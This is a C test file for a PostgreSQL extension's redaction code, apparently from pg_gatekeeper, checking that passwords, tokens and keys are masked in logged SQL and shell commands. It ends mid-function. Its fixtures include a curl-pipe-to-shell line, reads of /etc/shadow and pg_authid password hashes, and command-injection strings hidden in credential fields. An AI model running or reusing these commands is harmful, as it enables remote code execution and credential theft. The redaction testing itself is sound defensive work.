/*-------------------------------------------------------------------------
 *
 * test_redact.c
 *	  Secrets never reach a record, and what is no secret does.
 *
 * Stands alone; prints TAP.
 *
 * Copyright (c) 2026, the pg_gatekeeper authors
 * SPDX-License-Identifier: PostgreSQL
 *
 *-------------------------------------------------------------------------
 */
#include <stdio.h>
#include <stdlib.h>

#include "common/escape.c"
#include "common/redact_text.c"
#include "common/redact_filter.c"
#include "common/redact_commands.c"
#include "common/redact_names.c"
#include "common/redact_shell.c"
#include "common/redact_find.c"
#include "common/redact_value.c"
#include "common/redact.c"
#include "common/redact_sql.c"

/* The secret in all of the statements below. */
#define SECRET "s3cr3t"

typedef struct Case
{
	const char *input;
	const char *expected;		/* NULL: it is enough that the secret is gone */
} Case;

/* SQL: the secret must be gone, the rest be as told. */
static const Case hidden[] = {
	{"SELECT create_aws_credentials('AKIAX', 's3cr3t', '')", NULL},
	{"SELECT aws_commons.create_aws_credentials('AKIAX', 's3cr3t', ''), f('shown')", NULL},
	{"SELECT http_header('Authorization', 'Basic s3cr3t'), 'shown'", NULL},
	{"SELECT http_header('X-Api-Key', 's3cr3t')", NULL},
	{"SELECT set_config('app.jwt', 's3cr3t', false)", NULL},
	{"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (key 's3cr3t', host 'shown')", NULL},
	{"SELECT 's3cr3t' pw, 'shown' b", NULL},
	{"SELECT 's3cr3t' AS password", NULL},
	{"COPY t TO PROGRAM 'curl -su u:s3cr3t http://h/'", NULL},
	{"COPY t TO PROGRAM 'sshpass -p ''s3cr3t s3cr3t'' ssh shown'", NULL},
	{"SELECT '-----BEGIN PRIVATE KEY-----s3cr3t-----END PRIVATE KEY-----'", NULL},
	{"SELECT 'ghp_s3cr3ts3cr3ts3cr3ts3cr3ts3cr3t'", NULL},
	{"ALTER ROLE x PASSWORD 's3cr3t'", NULL},
	{"ALTER ROLE x/**/PASSWORD/**/'s3cr3t'", NULL},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE x PASSWORD ''s3cr3t'''; END $$", NULL},
	{"INSERT INTO users (name, password) VALUES ('a', 's3cr3t')", NULL},
	{"SELECT dblink_connect('host=shown password=s3cr3t')", NULL},
	{"SELECT 'PASS' || 'WORD ''s3cr3t'''", NULL},
	{"SELECT http(('POST','shown', ARRAY[http_header('Cookie','s3cr3t')]))", NULL},
	/* roles, in every spelling */
	{"ALTER ROLE bob PASSWORD 's3cr3t'", "ALTER ROLE bob PASSWORD '***'"},
	{"ALTER ROLE bob PASSWORD 's3cr3t' VALID UNTIL '2027-01-01'",
	"ALTER ROLE bob PASSWORD '***' VALID UNTIL '2027-01-01'"},
	{"CREATE USER \"x\" WITH ENCRYPTED pAsSwOrD's3cr3t'",
	"CREATE USER \"x\" WITH ENCRYPTED pAsSwOrD'***'"},
	{"CREATE ROLE bob LOGIN PASSWORD E's3cr3t\\''", "CREATE ROLE bob LOGIN PASSWORD E'***'"},
	{"CREATE ROLE bob PASSWORD E'a\\'s3cr3t' LOGIN", "CREATE ROLE bob PASSWORD E'***' LOGIN"},
	{"CREATE ROLE bob PASSWORD 'a''s3cr3t' LOGIN", "CREATE ROLE bob PASSWORD '***' LOGIN"},
	{"ALTER ROLE bob PASSWORD U&'s3cr3t\\0041'", "ALTER ROLE bob PASSWORD U&'***'"},
	{"ALTER ROLE bob PASSWORD U&'s3cr3t!0041' UESCAPE '!'",
	"ALTER ROLE bob PASSWORD U&'***' UESCAPE '!'"},
	{"ALTER ROLE bob PASSWORD $$s3cr3t$$", "ALTER ROLE bob PASSWORD $$***$$"},
	{"ALTER ROLE bob PASSWORD $x$it's $$s3cr3t$$ $x$ LOGIN",
	"ALTER ROLE bob PASSWORD $x$***$x$ LOGIN"},
	{"ALTER ROLE bob PASSWORD 'ab'\n  's3cr3t'", "ALTER ROLE bob PASSWORD '***'\n  '***'"},
	{"ALTER ROLE bob PASSWORD 'ab' -- more\n  's3cr3t'",
	"ALTER ROLE bob PASSWORD '***' -- more\n  '***'"},
	{"ALTER ROLE bob PASSWORD/**/'s3cr3t'", "ALTER ROLE bob PASSWORD/**/'***'"},
	{"ALTER ROLE bob PASSWORD /* it's /* nested ' */ */ -- isn't\n 's3cr3t'",
	"ALTER ROLE bob PASSWORD /* it's /* nested ' */ */ -- isn't\n '***'"},
	{"ALTER ROLE bob PASSWORD 's3cr3t", "ALTER ROLE bob PASSWORD '***"},
	{"ALTER ROLE bob PASSWORD $$s3cr3t", "ALTER ROLE bob PASSWORD $$***"},
	{"SELECT 1; ALTER ROLE a PASSWORD 's3cr3t'; ALTER ROLE b PASSWORD 's3cr3t'; SELECT 'x'",
	"SELECT 1; ALTER ROLE a PASSWORD '***'; ALTER ROLE b PASSWORD '***'; SELECT 'x'"},
	{"ALTER ROLE caf\xc3\xa9 PASSWORD 's3cr3t'", "ALTER ROLE caf\xc3\xa9 PASSWORD '***'"},
	{"ALTER ROLE \xe9\xff PASSWORD 's3cr3t'", "ALTER ROLE \xe9\xff PASSWORD '***'"},
	{"ALTER ROLE bob PASSWORD 'SCRAM-SHA-256$4096:s3cr3t'", "ALTER ROLE bob PASSWORD '***'"},

	/* inside DO blocks and function bodies */
	{"DO $$ BEGIN ALTER ROLE bob PASSWORD 's3cr3t'; END $$",
	"DO $$ BEGIN ALTER ROLE bob PASSWORD '***'; END $$"},
	{"DO LANGUAGE plpgsql $do$ BEGIN CREATE ROLE x PASSWORD $$s3cr3t$$; PERFORM 'shown'; END $do$",
	"DO LANGUAGE plpgsql $do$ BEGIN CREATE ROLE x PASSWORD $$***$$; PERFORM 'shown'; END $do$"},
	{"DO 'BEGIN ALTER ROLE bob PASSWORD ''s3cr3t''; END'",
	"DO 'BEGIN ALTER ROLE bob PASSWORD ***'"},
	{"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$ ALTER ROLE bob PASSWORD 's3cr3t' $f$",
	"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$ ALTER ROLE bob PASSWORD '***' $f$"},
	{"CREATE FUNCTION f() RETURNS void AS 'ALTER ROLE bob PASSWORD ''s3cr3t''' LANGUAGE sql",
	"CREATE FUNCTION f() RETURNS void AS 'ALTER ROLE bob PASSWORD ***' LANGUAGE sql"},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''s3cr3t'''; END $$",
	"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ***'; END $$"},
	{"DO $$ BEGIN EXECUTE $x$ALTER ROLE bob PASSWORD 's3cr3t'$x$; END $$", NULL},
	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob PASSWORD \\'s3cr3t\\''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob PASS\\x57ORD \\'s3cr3t\\''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob \\120ASSWORD \\'s3cr3t\\''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob PASS\\u0057ORD \\'s3cr3t\\''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE U&'ALTER ROLE bob PASS\\0057ORD ''s3cr3t'''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE U&'ALTER ROLE bob \\+000050ASSWORD ''s3cr3t'''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE U&'ALTER ROLE bob PASS!0057ORD ''s3cr3t''' UESCAPE '!'; END $$", NULL},
	{"DO $a$ BEGIN EXECUTE $b$ DO $c$ BEGIN EXECUTE $d$ALTER ROLE x PASSWORD 's3cr3t'$d$; END $c$ $b$; END $a$",
	NULL},

	/* not where one would expect it */
	{"DO $$ DECLARE p text := 's3cr3t'; BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ' || quote_literal(p); END $$",
	"DO $$ DECLARE p text := '***'; BEGIN EXECUTE '***' || quote_literal(p); END $$"},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ' || quote_literal('s3cr3t'); END $$", NULL},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''' || 's3cr3t' || ''''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''ab' || 's3cr3t' || ''''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE concat('ALTER ROLE bob PASSWORD ''ab', 's3cr3t', ''''); END $$", NULL},
	{"DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD %L', 'bob', 's3cr3t'); END $$", NULL},
	{"DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD ''%s''', 'bob', $x$s3cr3t$x$); END $$", NULL},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ' || quote_literal($x$s3cr3t$x$); END $$", NULL},
	{"INSERT INTO users (name, password) VALUES ('bob', 's3cr3t')",
	"INSERT INTO users (name, password) VALUES ('***', '***')"},
	{"INSERT INTO users (name, user_password) VALUES ('bob', E's3cr3t')", NULL},
	{"SELECT set_password('bob', 's3cr3t')", NULL},
	{"SELECT 's3cr3t' AS password", NULL},
	{"SELECT * FROM users WHERE password IN ('a', 's3cr3t')", NULL},
	{"UPDATE users SET password = 's3cr3t' WHERE name = 'bob'",
	"UPDATE users SET password = '***' WHERE name = 'bob'"},
	{"UPDATE users SET password = 's3' || 's3cr3t' WHERE name = 'bob'", NULL},
	{"UPDATE pg_authid SET rolpassword = 's3cr3t' WHERE rolname = 'bob'",
	"UPDATE pg_authid SET rolpassword = '***' WHERE rolname = 'bob'"},
	{"COPY (SELECT 'SCRAM-SHA-256$4096:abc$s3cr3t:x', 'y') TO PROGRAM 'cat'",
	"COPY (SELECT '***', 'y') TO PROGRAM 'cat'"},
	{"SELECT set_config('my.password', 's3cr3t', false)", NULL},
	{"SET my.password TO 's3cr3t'", "SET my.password TO '***'"},
	{"SET my.password = 's3cr3t'", "SET my.password = '***'"},
	{"SELECT f(password => 's3cr3t', x => 'y')", "SELECT f(password => '***', x => 'y')"},
	{"SELECT f(password := 's3cr3t')", "SELECT f(password := '***')"},
	{"SELECT '{\"user\": \"bob\", \"password\": \"s3cr3t\"}'::json",
	"SELECT '{\"user\": \"bob\", \"password ***'::json"},
	{"CREATE FOREIGN TABLE t (a int) SERVER s OPTIONS (api_key 's3cr3t', x 'y')",
	"CREATE FOREIGN TABLE t (a int) SERVER s OPTIONS (api_key '***', x 'y')"},
	{"-- password: s3cr3t\nSELECT 'x'", "-- password ***\nSELECT 'x'"},
	{"/* the password is s3cr3t */ SELECT 'x'", "/* the password *** */ SELECT 'x'"},
	{"DO $$ x = connect(\"host=h password=s3cr3t\") $$ LANGUAGE plpython3u", NULL},
	{"DO $$ password = \"s3cr3t\" $$ LANGUAGE plpython3u", NULL},
	{"DO $$ a = 'it\\'s'; password = 's3cr3t' $$ LANGUAGE plpython3u", NULL},

	/* the keyword in pieces */
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASS' || 'WORD ''s3cr3t'''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PA' || 'SS' || '' || 'WO' || 'RD ''s3cr3t'''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob pass' || 'word ' || quote_literal('s3cr3t'); END $$", NULL},
	{"DO $$ BEGIN EXECUTE format('ALTER ROLE bob %s%s %L', 'PASS', 'WORD', 's3cr3t'); END $$", NULL},
	{"DO $$ BEGIN EXECUTE $x$ALTER ROLE bob PASS$x$ || $y$WORD 's3cr3t'$y$; END $$", NULL},
	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob P\\x41SS' || U&'WORD ''s3cr3t'''; END $$", NULL},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASS'\n'WORD ''s3cr3t'''; END $$", NULL},
	{"DO 'BEGIN EXECUTE ''ALTER ROLE bob PASS'' || ''WORD ''''s3cr3t''''''; END'", NULL},
	{"DO $$ BEGIN EXECUTE format('ALTER ROLE bob PASSWORD %2$L', 1, 's3cr3t'); END $$", NULL},
	{"DO $$ BEGIN EXECUTE format('ALTER ROLE bob PASSWORD E%L', 's3cr3t'); END $$", NULL},
	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD $1' USING 's3cr3t'; END $$", NULL},
	{"DO $$ BEGIN EXECUTE replace('ALTER ROLE bob PASSWORD ?', '?', quote_literal('s3cr3t')); END $$", NULL},
	{"DO $$ BEGIN RAISE NOTICE 'the password is %', 's3cr3t'; END $$", NULL},

	{"DO E'password'\n '\\'s3cr3t'", NULL},
	{"DO $$ BEGIN EXECUTE E'x' '\\'' ' PASSWORD \\'s3cr3t\\''; END $$", NULL},
	{"SELECT dblink('host=h' -- more\n ' token=s3cr3t')", NULL},
	{"DO 'set x.api_k'\n  'ey TO ''s3cr3t'''", NULL},
	{"DO 'SET x.token TO $\xc3\xa9$s3cr3t$\xc3\xa9$'", NULL},
	{"DO 'SET x.token TO ''s3cr3t'''", NULL},
	{"DO $$ BEGIN EXECUTE E'SET x.token\\x20TO ''s3cr3t'''; END $$", NULL},
	{"SELECT dblink(E'postgres:\\x2F\\x2Fu:s3cr3t@h', 'SELECT 1')", NULL},
	{"SELECT dblink(E'postgres://u:s3cr3t\\x40h', 'SELECT 1')", NULL},
	{"SELECT dblink(E'token\\075s3cr3t', 'SELECT 1')", NULL},

	/* variables and parameters */
	{"DO $$ DECLARE pw text := 's3cr3t'; BEGIN PERFORM f(pw); END $$", NULL},
	{"DO $$ DECLARE v_pw CONSTANT varchar(20) := 's3cr3t'; BEGIN PERFORM f(v_pw); END $$", NULL},
	{"DO $$ DECLARE new_password text DEFAULT 's3cr3t'; BEGIN PERFORM f(1); END $$", NULL},
	{"DO $$ BEGIN password := 's3cr3t'; END $$", "DO $$ BEGIN password := '***'; END $$"},
	{"EXECUTE change_it('bob', 's3cr3t')", "EXECUTE change_it('***', '***')"},
	{"/* x */ execute change_it($$s3cr3t$$)", NULL},
	{"CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC SELECT set_password('s3cr3t'); END", NULL},
	{"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE $q$DO $d$ BEGIN ALTER ROLE x PASSWORD $p$s3cr3t$p$; END $d$$q$; END $f$",
	NULL},

	/* bytes that are no quotes where they stand, and broken SQL */
	{"ALTER ROLE \x83\x5c PASSWORD 's3cr3t'", "ALTER ROLE \x83\x5c PASSWORD '***'"},
	{"ALTER ROLE bob PASSWORD '\x95\x5c' || 's3cr3t'", NULL},
	{"ALTER ROLE bob PASSWORD \"s3cr3t\"", "ALTER ROLE bob PASSWORD \"***\""},
	{"ALTER ROLE bob PASSWORD PASSWORD 's3cr3t' '", NULL},
	{"ALTER ROLE bob PASSWORD = 's3cr3t", "ALTER ROLE bob PASSWORD = '***"},
	{"ALTER GROUP g PASSWORD E'\\x73' 's3cr3t'", NULL},
	{"ALTER USER bob UNENCRYPTED PASSWORD N's3cr3t'", NULL},
	{"ALTER ROLE bob PASSWORD\f\v\r\n\t's3cr3t'", NULL},

	/* connections */
	{"SELECT set_config('primary_conninfo', 'host=h password=s3cr3t', false)",
	"SELECT set_config('primary_conninfo', 'host=h password ***', false)"},
	{"ALTER SYSTEM SET primary_conninfo = 'user=u sslpassword=s3cr3t'",
	"ALTER SYSTEM SET primary_conninfo = 'user=u sslpassword ***'"},
	{"SELECT dblink_exec('postgres://u:p%40s3cr3t@h:1,g:2/d', 'SELECT 1')",
	"SELECT dblink_exec('postgres://u:***@h:1,g:2/d', 'SELECT 1')"},
	{"SELECT dblink_connect('postgres://h/d?user=u&pass%77ord=s3cr3t')", NULL},
	{"SELECT dblink_connect('postgres://h/d?%70%61%73%73%77%6F%72%64=s3cr3t')", NULL},
	{"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (host 'h', passwd 's3cr3t', token 's3cr3t')", NULL},
	{"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (\"secret-key\" 's3cr3t')", NULL},
	{"ALTER SUBSCRIPTION s CONNECTION E'host=h pass\\167ord=s3cr3t'", NULL},
	{"COPY t FROM PROGRAM 'curl -u bob:s3cr3t http://h/'", "COPY t FROM PROGRAM 'curl -u bob:*** http://h/'"},
	{"COPY t FROM PROGRAM 'curl -H \"Authorization: Basic s3cr3t\" http://h/'",
	"COPY t FROM PROGRAM 'curl -H \"Authorization: ***\" http://h/'"},
	{"COPY t FROM PROGRAM $$sshpass -p s3cr3t ssh h$$", "COPY t FROM PROGRAM $$sshpass -p *** ssh h$$"},
	{"CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password 's3cr3t')",
	"CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password '***')"},
	{"ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET \"password\" 's3cr3t')",
	"ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET \"password\" '***')"},
	{"ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET U&\"p\\0061ssword\" 's3cr3t')", NULL},
	{"ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET U&\"p!0061ssword\" UESCAPE '!' 's3cr3t')",
	NULL},
	{"CREATE SUBSCRIPTION s CONNECTION 'host=h user=u password=s3cr3t dbname=d' PUBLICATION p",
	"CREATE SUBSCRIPTION s CONNECTION 'host=h user=u password ***' PUBLICATION p"},
	{"CREATE SUBSCRIPTION s CONNECTION 'host=h password = ''a s3cr3t''' PUBLICATION p",
	"CREATE SUBSCRIPTION s CONNECTION 'host=h password ***' PUBLICATION p"},
	{"CREATE SUBSCRIPTION s CONNECTION 'postgres://u:s3cr3t@h/d' PUBLICATION p",
	"CREATE SUBSCRIPTION s CONNECTION 'postgres://u:***@h/d' PUBLICATION p"},
	{"CREATE SUBSCRIPTION s CONNECTION $$postgresql://u:s3cr3t@h/d$$ PUBLICATION p",
	"CREATE SUBSCRIPTION s CONNECTION $$postgresql://u:***@h/d$$ PUBLICATION p"},
	{"SELECT dblink_connect('c', 'host=h user=u password=s3cr3t')",
	"SELECT dblink_connect('c', 'host=h user=u password ***')"},
	{"SELECT dblink('password=''s3cr3t'' host=h', 'SELECT 1')", NULL},
	{"SELECT dblink($$host=h password=s3cr3t$$, 'SELECT 1')", NULL},
	{"SELECT dblink('postgres://u:a/b@s3cr3t@h', 'SELECT 1')", NULL},
	{"SELECT dblink('postgres://h/d?user=u&password=s3cr3t', 'SELECT 1')", NULL},
	{"COPY t TO PROGRAM 'curl https://bob:s3cr3t@host/x'",
	"COPY t TO PROGRAM 'curl https://***@host/x'"},
	{"COPY t TO PROGRAM 'curl https://s3cr3t@host/x'",
	"COPY t TO PROGRAM 'curl https://***@host/x'"},
	{"COPY t TO PROGRAM 'PGPASSWORD=s3cr3t psql -h x'",
	"COPY t TO PROGRAM 'PGPASSWORD ***'"},
};

/* SQL that must come through as it is. */
static const char *const shown[] = {
	"SELECT pg_read_file('/srv/shown/secret.txt')",
	"COPY su_secret TO '/srv/shown'",
	"SELECT inj('COPY su_secret TO ''/srv/shown''')",
	"SELECT defp('/x/shown') AS password",
	"UPDATE t SET key = 'shown' WHERE a = 'b'",
	"SELECT 1",
	"",
	"COPY (SELECT 'a', E'b\\'c', $$d$$) TO PROGRAM 'curl http://203.0.113.9/x | sh'",
	"ALTER ROLE bob PASSWORD NULL",
	"ALTER ROLE bob PASSWORD $1",
	"ALTER ROLE bob SET search_path = 'x'",
	"SELECT rolname, rolpassword FROM pg_authid WHERE rolname = 'postgres'",
	"SELECT usename, passwd FROM pg_shadow WHERE usename = 'postgres'",
	"SET password_encryption = 'md5'",
	"ALTER SUBSCRIPTION s SET (password_required = 'false')",
	"ALTER SYSTEM SET gatekeeper.catalog_secrets = 'off'",
	"SELECT crypt('text', gen_salt('bf'))",
	"SELECT pgp_sym_encrypt('text', 'key')",
	"SELECT a -- it's\n, b /* don't */ FROM t WHERE c = 'x'",
	"SELECT $1, a$b, $x$ it's $x$ FROM t",
	"SELECT \"it's\", U&\"d\\0061ta\" FROM t",
	"DO $$ BEGIN RAISE NOTICE 'x %', 'y'; END $$",
	"SELECT 'http://host:80/path', 'mailto:a@b', '://'",
	"SELECT '\xff\xfe', 'caf\xc3\xa9'",
	"COPY t TO '/tmp/x' -- $ $$ $a",
	"COPY pg_authid (rolname, rolpassword) TO '/tmp/x'",
	"SELECT encrypt('data', 'key', 'aes'), decrypt('data', 'key', 'aes'), digest('data', 'sha256')",
	"SELECT pgp_pub_encrypt('text', dearmor('key')), hmac('data', 'key', 'md5')",
	"SELECT 'compass' || 'es', 'pass' || 'age', 'pass', 'the word'",
	"COPY t TO PROGRAM 'psql -U bob -p 5432 -c ''SELECT 1'''",
	"SET SESSION AUTHORIZATION 'bob'",
	"DO $$ BEGIN EXECUTE 'SET SESSION AUTHORIZATION bob'; EXECUTE 'SELECT 1'; END $$",
	"CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', sslcert '/x', passfile '/y')",
};

/* Plain text: only the value goes. */
static const Case plain[] = {
	{"curl -su u:s3cr3t http://h/shown",
	"curl -su u:*** http://h/shown"},
	{"curl -sSfu u:s3cr3t http://h/",
	"curl -sSfu u:*** http://h/"},
	{"curl -u 'u:s3cr3t s3cr3t' http://h/shown",
	"curl -u 'u:***' http://h/shown"},
	{"sshpass -p 's3cr3t s3cr3t' ssh shown",
	"sshpass -p '***' ssh shown"},
	{"mysql -p's3cr3t s3cr3t' db",
	"mysql -p'***' db"},
	{"PGPASSWORD=$'s3cr3t s3cr3t' psql shown",
	"PGPASSWORD=*** psql shown"},
	{"PGPASSWORD=s3cr3t's3cr3t'\"s3cr3t\" psql shown",
	"PGPASSWORD=*** psql shown"},
	{"PGPASSWORD=s3cr3t\\ s3cr3t psql shown",
	"PGPASSWORD=*** psql shown"},
	{"AZURE_STORAGE_KEY=s3cr3t az shown",
	"AZURE_STORAGE_KEY=*** az shown"},
	{"curl 'https://h/x?sig=s3cr3t'",
	"curl 'https://h/x?sig=***'"},
	{"curl 'https://h/x?X-Amz-Signature=s3cr3t&shown=1'",
	"curl 'https://h/x?X-Amz-Signature=***&shown=1'"},
	{"curl -H 'Cookie: s3cr3t; b=s3cr3t' http://shown",
	"curl -H 'Cookie: ***' http://shown"},
	{"curl -H 'X-Auth: s3cr3t' http://shown",
	"curl -H 'X-Auth: ***' http://shown"},
	{"redis-cli -a s3cr3t get shown",
	"redis-cli -a *** get shown"},
	{"ldapsearch -w s3cr3t -b shown",
	"ldapsearch -w *** -b shown"},
	{"smbclient -U u%s3cr3t //h/shown",
	"smbclient -U u%*** //h/shown"},
	{"sqlcmd -P s3cr3t -S shown",
	"sqlcmd -P *** -S shown"},
	{"sqlplus u/s3cr3t@db",
	"sqlplus u/***@db"},
	{"docker login -p s3cr3t shown",
	"docker login -p *** shown"},
	{"7z x -ps3cr3t shown.7z",
	"7z x -p*** shown.7z"},
	{"echo ghp_s3cr3ts3cr3ts3cr3ts3cr3ts3cr3t > f",
	"echo *** > f"},
	{"echo xoxb-s3cr3ts3cr3ts3cr3t",
	"echo ***"},
	{"curl -d eyJs3cr3ts3cr3ts3cr3ts3cr3t.eyJx",
	"curl -d ***"},
	{"echo '-----BEGIN RSA PRIVATE KEY-----s3cr3t-----END RSA PRIVATE KEY-----' shown",
	"echo '***-----END RSA PRIVATE KEY-----' shown"},
	{"token=\"touch /x/evil-payload\"; eval \"$token\"",
	"token=\"touch /x/evil-payload\"; eval \"$token\""},
	{"token=/x/evil-payload; $token",
	"token=/x/evil-payload; $token"},
	{"token='touch /x/evil-payload' sh -c \"$(env | grep to)\"",
	"token='touch /x/evil-payload' sh -c \"$(env | grep to)\""},
	{"curl -u u:$(touch /x/evil-payload) h",
	"curl -u u:$(touch /x/evil-payload) h"},
	{"curl http://x:$(touch${IFS}/x/evil-payload)@h/",
	"curl http://x:$(touch${IFS}/x/evil-payload)@h/"},
	{"psql postgres://u:$(touch${IFS}/x/evil-payload)@h",
	"psql postgres://u:$(touch${IFS}/x/evil-payload)@h"},
	{"true Bearer x; touch /x/evil-payload",
	"true Bearer ***; touch /x/evil-payload"},
	{"true Authorization: x; touch /x/evil-payload",
	"true Authorization: ***; touch /x/evil-payload"},
	{"mysql x; touch -p/x/evil-payload",
	"mysql x; touch -p/x/evil-payload"},
	{"PGPASSWORD=s3cr3t psql -c 'select shown'",
	"PGPASSWORD=*** psql -c 'select shown'"},
	{"curl -H \"Authorization: Bearer s3cr3t\" http://shown",
	"curl -H \"Authorization: ***\" http://shown"},
	{"host=shown password='s3cr3t s3cr3t' user=x",
	"host=shown password='***' user=x"},
	{"postgres://u:s3cr3t@h/shown",
	"postgres://u:***@h/shown"},
	{"su_secret",
	"su_secret"},
	{"PGPASSWORD=s3cr3t psql -c 'evil'", "PGPASSWORD=*** psql -c 'evil'"},
	{"PGPASSWORD='a s3cr3t' evil", "PGPASSWORD='***' evil"},
	{"PGPASSWORD=s3cr3t;evil", "PGPASSWORD=***;evil"},
	{"PGPASSWORD=s3cr3t|evil", "PGPASSWORD=***|evil"},
	{"PGPASSWORD=$(evil)", "PGPASSWORD=$(evil)"},
	{"PGPASSWORD=\"$(evil)\"", "PGPASSWORD=\"$(evil)\""},
	{"mysql --password=s3cr3t evil", "mysql --password=*** evil"},
	{"mysql --password s3cr3t evil", "mysql --password *** evil"},
	{"psql -c \"ALTER ROLE bob PASSWORD 's3cr3t'\"", "psql -c \"ALTER ROLE bob PASSWORD '***'\""},
	{"curl -d '{\"password\": \"s3cr3t\", \"a\": 1}' evil", "curl -d '{\"password\": \"***\", \"a\": 1}' evil"},
	{"curl https://bob:s3cr3t@host/evil", "curl https://***@host/evil"},
	{"psql postgres://bob:s3cr3t@host/evil", "psql postgres://bob:***@host/evil"},
	{"curl 'https://host/?token=s3cr3t&evil'", "curl 'https://host/?token=***&evil'"},
	{"psql -c \"ALTER ROLE bob PASSWORD E's3cr3t'\" evil", "psql -c \"ALTER ROLE bob PASSWORD E'***'\" evil"},
	{"psql -c \"ALTER ROLE bob PASSWORD U&'s3cr3t'\"", "psql -c \"ALTER ROLE bob PASSWORD U&'***'\""},
	{"psql -c 'ALTER ROLE bob PASSWORD $$s3cr3t$$' evil", "psql -c 'ALTER ROLE bob PASSWORD $$***$$' evil"},
	{"psql -c \"ALTER ROLE bob PASSWORD \\$x\\$s3cr3t\\$x\\$\"", "psql -c \"ALTER ROLE bob PASSWORD \\$x\\$***$x\\$\""},
	{"psql -c \"ALTER ROLE bob PASSWORD/**/ 's3cr3t'\"", "psql -c \"ALTER ROLE bob PASSWORD/**/ '***'\""},
	{"psql \"password='it\\'s s3cr3t' host=evil\"", "psql \"password='***' host=evil\""},
	{"PGPASSWORD='a\\' evil 'b'", "PGPASSWORD='***' evil 'b'"},
	{"curl -u bob:s3cr3t evil", "curl -u bob:*** evil"},
	{"curl -ubob:s3cr3t evil", "curl -ubob:*** evil"},
	{"curl --user 'bob:s3cr3t' evil", "curl --user 'bob:***' evil"},
	{"curl --proxy-user=bob:s3cr3t|evil", "curl --proxy-user=bob:***|evil"},
	{"curl -H 'Authorization: Bearer s3cr3t' evil", "curl -H 'Authorization: ***' evil"},
	{"curl -H \"X-Api-Key: s3cr3t\" evil", "curl -H \"X-Api-Key: ***\" evil"},
	{"sshpass -p s3cr3t ssh evil", "sshpass -p *** ssh evil"},
	{"sshpass -p's3cr3t' ssh evil", "sshpass -p'***' ssh evil"},
	{"mysqldump -u root -ps3cr3t evil", "mysqldump -u root -p*** evil"},
	{"mkdir -p /tmp/evil", "mkdir -p /tmp/evil"},
	{"psql -U bob -h evil", "psql -U bob -h evil"},
	{"aws --secret-access-key s3cr3t evil", "aws --secret-access-key *** evil"},
	{"AWS_SECRET_ACCESS_KEY=s3cr3t evil", "AWS_SECRET_ACCESS_KEY=*** evil"},
	{"openssl enc -pass pass:s3cr3t evil", "openssl enc -pass *** evil"},
	{"curl 'postgres://h/d?pass%77ord=s3cr3t&evil'", "curl 'postgres://h/d?pass%77ord=***&evil'"},
	{"psql -c \"SET x.token TO 's3cr3t'\" evil", "psql -c \"SET x.token TO '***'\" evil"},
	{"cp /etc/passwd to x", "cp /etc/passwd to x"},
	{"/etc/passwd", "/etc/passwd"},
	{"cat /etc/passwd /etc/shadow", "cat /etc/passwd /etc/shadow"},
	{"pg_authid.rolpassword", "pg_authid.rolpassword"},
	{"echo password is", "echo password is"},
	{"curl http://host/a@b ; evil://", "curl http://host/a@b ; evil://"},
};

static int	tests;

static void
ok(bool passed, const char *what, const char *input, const char *got)
{
	printf("%sok %d - %s: ", passed ? "" : "not ", ++tests, what);
	for (; *input; input++)
		putchar(*input == '\n' || *input == '#' ? ' ' : *input);
	putchar('\n');
	if (!passed)
		printf("# got: %s\n", got);
}

/*
 * Redact a copy that ends where its memory ends, into a buffer of just this
 * size, so that a sanitizer or valgrind sees a byte too many.
 */
static char *
redact(const char *input, size_t len, size_t size, bool is_sql, bool backslash)
{
	char	   *copy = malloc(len ? len : 1);
	char	   *out = malloc(size);
	GkText		text;

	memcpy(copy, input, len);
	gk_text_init(&text, out, size);
	if (is_sql)
		gk_redact_sql(&text, copy, len, backslash);
	else
		(void) gk_redact_plain(&text, copy, len, true);
	free(copy);
	if (text.used >= size || out[text.used] != '\0')
		abort();
	return out;
}

/* Whatever of the output fits, the secret is not in it. */
static bool
never_leaks(const char *input)
{
	for (size_t size = 1; size < strlen(input) + 20; size++)
	{
		char	   *out = redact(input, strlen(input), size, true, false);
		bool		leaks = strstr(out, SECRET) != NULL;

		free(out);
		if (leaks)
			return false;
	}
	return true;
}

/* Broken SQL must not hang, crash or read what is not there. */
static void
torture(const char *input)
{
	static const char *const bits[] = {
